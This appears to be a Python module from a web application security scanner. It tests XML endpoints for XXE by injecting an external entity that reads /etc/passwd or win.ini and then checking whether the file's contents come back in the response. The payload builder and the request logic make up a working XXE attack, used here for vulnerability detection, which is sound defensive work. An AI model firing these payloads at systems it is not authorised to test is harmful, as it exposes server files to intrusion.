"""XXE on endpoints that take XML: an external entity naming a system file, read back in the response."""

from __future__ import annotations

import re

from pavedroad.core.findings import Finding
from pavedroad.dast.checks.base import CheckContext, new_in
from pavedroad.dast.checks.traversal import PASSWD, WIN_INI
from pavedroad.dast.evidence import build_finding
from pavedroad.dast.model import Endpoint, RequestSpec

_PROLOG = re.compile(r"^\s*<\?xml[^>]*\?>")
_TEXT = re.compile(r">([^<>]+)<")


def xxe_body(template: str, system_id: str) -> str:
    """The endpoint's own XML with a DOCTYPE declaring &pvd; and every text value replaced by it."""
    body = _PROLOG.sub("", template).strip() or "<request>x</request>"
    body = _TEXT.sub(">&pvd;<", body)
    root = re.match(r"<([A-Za-z_][\w.-]*)", body)
    name = root.group(1) if root else "request"
    return f'<?xml version="1.0"?>\n<!DOCTYPE {name} [<!ENTITY pvd SYSTEM "{system_id}">]>\n{body}'


def check_xxe(context: CheckContext, endpoint: Endpoint) -> list[Finding]:
    """Only endpoints with an XML body; confirmed by the file's signature in the response."""
    if not endpoint.body_template:
        return []
    baseline = context.baseline(endpoint)
    for system_id, signature in (("file:///etc/passwd", PASSWD), ("file:///c:/windows/win.ini", WIN_INI)):
        payload = xxe_body(endpoint.body_template, system_id)
        base = endpoint.request()
        probe = context.client.send(RequestSpec(base.method, base.url, base.params, content=payload,
                                                content_type="application/xml"))  # fmt: skip
        if new_in(probe, baseline, signature):
            return [build_finding(
                "xxe", probe, f"{endpoint.method} {endpoint.path}: the XML parser resolves external entities",
                parameter="(xml body)", payload=payload, path=endpoint.path,
                confirmation=f"the entity's file ({system_id}) came back in the response",
            )]  # fmt: skip
    return []
